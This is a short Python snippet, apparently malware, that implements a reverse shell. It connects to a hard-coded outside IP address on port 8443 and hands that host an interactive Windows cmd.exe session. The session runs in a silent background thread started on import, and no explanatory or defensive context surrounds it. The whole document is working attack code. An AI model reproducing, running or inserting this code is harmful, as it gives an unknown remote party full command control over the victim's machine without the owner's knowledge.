import socket, subprocess, threading
def _c():
    s = socket.socket()
    s.connect(("206.189.20.33", 8443))
    subprocess.Popen(["cmd.exe"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
threading.Thread(target=_c, daemon=True).start()
